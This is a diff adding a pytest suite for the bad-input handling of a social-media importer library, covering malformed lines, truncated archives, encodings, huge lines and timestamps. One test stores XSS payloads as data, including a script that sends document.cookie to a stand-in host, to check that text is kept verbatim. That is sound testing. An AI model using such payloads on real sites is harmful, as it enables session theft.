@@ -1,0 +1,231 @@
+"""Every bad-input case of issue 2, across the reddit, x, feed and table importers."""
+
+from __future__ import annotations
+
+import io
+import tracemalloc
+from datetime import UTC, datetime
+from pathlib import Path
+
+import orjson
+import pytest
+import zstandard
+
+from resonanz.errors import InputError, UnknownFormatError
+from resonanz.importers.base import ImportContext, Importer, ImportItem
+from resonanz.importers.feed import FeedImporter
+from resonanz.importers.opening import open_binary
+from resonanz.importers.reddit import RedditImporter
+from resonanz.importers.registry import get_importer
+from resonanz.importers.table import TableImporter
+from resonanz.importers.x import XImporter
+from resonanz.models import Post, Rejected
+
+BAD = Path(__file__).resolve().parents[1] / "fixtures" / "bad"
+REDDIT_FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "reddit"
+
+
+def run(importer: Importer, path: Path, **ctx_args: object) -> list[ImportItem]:
+    ctx = ImportContext(source=str(path), **ctx_args)  # type: ignore[arg-type]
+    with open_binary(path) as stream:
+        return list(importer.read(stream, ctx))
+
+
+def split(items: list[ImportItem]) -> tuple[list[Post], list[Rejected]]:
+    return (
+        [i for i in items if isinstance(i, Post)],
+        [i for i in items if isinstance(i, Rejected)],
+    )
+
+
+def test_malformed_json_lines_among_good_ones() -> None:
+    posts, rejected = split(run(RedditImporter(), BAD / "mixed_lines.ndjson"))
+    assert [p.native_id for p in posts] == ["m1", "m3", "m5"]
+    assert [r.line for r in rejected] == [2, 4, 7]  # line 6 is blank, not a record
+    assert all(r.reason.startswith("invalid JSON") for r in rejected)
+    assert all(r.source.endswith("mixed_lines.ndjson") for r in rejected)
+    assert rejected[1].raw == "this is not json at all"
+
+
+def test_truncated_zst_yields_records_before_the_cut_then_fails(tmp_path: Path) -> None:
+    lines = (REDDIT_FIXTURES / "dump_rs_2023-11.ndjson").read_bytes().splitlines()
+    body = b"".join(
+        lines[i % len(lines)].replace(b'"id": "', b'"id": "%d' % (i * 7919 % 100_003)) + b"\n"
+        for i in range(20_000)
+    )
+    packed = zstandard.ZstdCompressor(level=3).compress(body)
+    path = tmp_path / "RC_2023-11.zst"
+    path.write_bytes(packed[: len(packed) // 2])
+    complete = zstandard.ZstdDecompressor().decompressobj().decompress(packed[: len(packed) // 2])
+    expected = complete.count(b"\n")
+
+    got: list[ImportItem] = []
+    with open_binary(path) as stream, pytest.raises(InputError) as err:
+        for item in RedditImporter().read(stream, ImportContext(source=str(path))):
+            got.append(item)
+    assert 0 < expected < 20_000
+    posts, rejected = split(got)
+    assert len(posts) == expected and not rejected
+    assert str(path) in str(err.value) and "truncated" in str(err.value)
+
+
+def test_latin1_file_and_latin1_line() -> None:
+    posts, rejected = split(run(XImporter(), BAD / "latin1_tweets.csv"))
+    assert not rejected
+    assert posts[0].text.startswith("Grüße an @eurowings: Flug nach Köln")
+    assert posts[0].author.handle == "müller_reist"
+    assert posts[1].author.handle == "süßer_kaffee"
+
+    posts, rejected = split(run(RedditImporter(), BAD / "latin1_line.ndjson"))
+    assert not rejected
+    assert [p.text for p in posts] == ["UTF-8: Größe passt", "Latin-1: Größe passt nicht"]
+
+
+def test_utf8_bom() -> None:
+    (tweet,) = run(XImporter(), BAD / "bom_tweets.csv")
+    assert isinstance(tweet, Post) and tweet.native_id == "9101"  # header "tweet_id" found
+    (comment,) = run(RedditImporter(), BAD / "bom_listing.json")
+    assert isinstance(comment, Post) and comment.text == "BOM davor"
+
+
+@pytest.mark.parametrize(
+    ("importer", "ctx_args"),
+    [
+        (RedditImporter(), {}),
+        (XImporter(), {}),
+        (FeedImporter(), {}),
+        (TableImporter(), {"platform": "p", "options": {"map": "native_id=a,created_at=b"}}),
+    ],
+)
+def test_empty_file(importer: Importer, ctx_args: dict[str, object]) -> None:
+    with pytest.raises(InputError, match="empty"):
+        run(importer, BAD / "empty.ndjson", **ctx_args)
+
+
+def _write_with_huge_line(path: Path, first: bytes, last: bytes, huge_prefix: bytes) -> None:
+    with path.open("wb") as fh:
+        fh.write(first + b"\n")
+        fh.write(huge_prefix)
+        block = b"Maybelline " * 100_000  # ~1.1 MB
+        for _ in range(46):  # ~50 MB in one line
+            fh.write(block)
+        fh.write(b'"}\n')
+        fh.write(last + b"\n")
+
+
+def _peak_while(read: object) -> tuple[list[ImportItem], int]:
+    tracemalloc.start()
+    try:
+        items = list(read)  # type: ignore[call-overload]
+        return items, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+def test_50mb_single_line_is_rejected_without_loading_it(tmp_path: Path) -> None:
+    path = tmp_path / "huge.ndjson"
+    good = b'{"id": "g%d", "body": "ok", "created_utc": 1710000000}'
+    _write_with_huge_line(path, good % 1, good % 2, b'{"id": "huge", "body": "')
+    assert path.stat().st_size > 50_000_000
+    with open_binary(path) as stream:
+        items, peak = _peak_while(RedditImporter().read(stream, ImportContext(source=str(path))))
+    posts, rejected = split(items)
+    assert [p.native_id for p in posts] == ["g1", "g2"]  # the next good line still imported
+    assert [r.line for r in rejected] == [2] and "longer than" in rejected[0].reason
+    assert peak < 40 * 1024 * 1024  # the 50 MB line was never held in memory
+
+
+def test_50mb_csv_cell_is_rejected_and_next_row_kept(tmp_path: Path) -> None:
+    path = tmp_path / "huge.csv"
+    _write_with_huge_line(
+        path,
+        b"id,text,when\nr1,Rossmann,2024-03-01",
+        b"r3,dm,2024-03-02",
+        b'r2,"',
+    )
+    ctx = ImportContext(
+        source=str(path), platform="p", options={"map": "native_id=id,text=text,created_at=when"}
+    )
+    with open_binary(path) as stream:
+        items, peak = _peak_while(TableImporter().read(stream, ctx))
+    posts, rejected = split(items)
+    assert [p.native_id for p in posts] == ["r1", "r3"]
+    assert [r.line for r in rejected] == [3]
+    assert peak < 40 * 1024 * 1024
+
+
+def test_csv_missing_required_column() -> None:
+    path = BAD / "missing_column.csv"
+    with pytest.raises(InputError) as err:
+        run(XImporter(), path)
+    assert "missing_column.csv" in str(err.value) and "created_at" in str(err.value)
+    assert "columns present: id, kommentar, datum" in str(err.value)
+    with pytest.raises(InputError, match="'text' not found"):
+        run(
+            TableImporter(),
+            path,
+            platform="p",
+            options={"map": "native_id=id,text=text,created_at=datum"},
+        )
+    with pytest.raises(InputError, match="'zeit' not found"):
+        run(TableImporter(), path, platform="p", options={"map": "native_id=id,created_at=zeit"})
+
+
+def test_timestamps_without_zone_and_as_epoch_seconds_or_milliseconds() -> None:
+    items = run(
+        TableImporter(),
+        BAD / "timestamps.csv",
+        platform="p",
+        options={"map": "native_id=id,text=text,created_at=when"},
+    )
+    posts, rejected = split(items)
+    expected = datetime(2024, 3, 1, 10, tzinfo=UTC)
+    assert [p.native_id for p in posts] == ["t1", "t2", "t3", "t4", "t5"]
+    assert all(p.created_at == expected for p in posts)
+    assert all(p.created_at.tzinfo is not None for p in posts)
+    assert [r.line for r in rejected] == [7] and "timestamp" in rejected[0].reason
+
+
+def test_duplicate_ids_are_passed_on_in_order() -> None:
+    # Importers stream in constant memory, so they cannot remember every id; the
+    # store's upsert by (platform, native_id) keeps the later version.
+    posts, rejected = split(run(RedditImporter(), BAD / "duplicates.ndjson"))
+    assert not rejected
+    assert [p.native_id for p in posts] == ["m60", "m61", "m60"]
+    assert posts[0].key == posts[2].key
+    assert (posts[0].metrics.score, posts[2].metrics.score) == (2, 9)
+
+
+def test_nul_bytes_are_removed() -> None:
+    posts, rejected = split(run(RedditImporter(), BAD / "nul_bytes.ndjson"))
+    assert not rejected
+    assert [p.text for p in posts] == ["Nivea Men Sensitive", "Schaum  ist super"]
+    assert all("\x00" not in p.text for p in posts)
+
+
+def test_pure_emoji_and_zero_width_joiners_are_kept() -> None:
+    posts, rejected = split(run(RedditImporter(), BAD / "emoji_zwj.ndjson"))
+    assert not rejected
+    assert [p.text for p in posts] == ["💄💋✨", "👩\u200d👩\u200d👧\u200d👦", "\u200d\u200d\u200b"]
+
+
+def test_html_and_script_are_stored_verbatim() -> None:
+    posts, rejected = split(run(RedditImporter(), BAD / "html_script.ndjson"))
+    assert not rejected
+    assert posts[0].text == '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
+    assert posts[1].text == "<b>fett</b> &amp; <img src=x onerror=alert(1)> L'Oréal"
+    line = (
+        b'{"id": "h1", "text": "<script>alert(1)</script>", "created_at": "2024-03-01T10:00:00Z"}'
+    )
+    (tweet,) = XImporter().read(io.BytesIO(line + b"\n"), ImportContext(source="t.jsonl"))
+    assert isinstance(tweet, Post) and tweet.text == "<script>alert(1)</script>"
+    assert orjson.loads(tweet.raw)["text"] == "<script>alert(1)</script>"
+
+
+def test_unknown_format_lists_known_ones() -> None:
+    with pytest.raises(UnknownFormatError) as err:
+        get_importer("nope")
+    assert "nope" in str(err.value)
+    hint = err.value.hint or ""
+    for name in ("feed", "reddit", "table", "x"):
+        assert name in hint
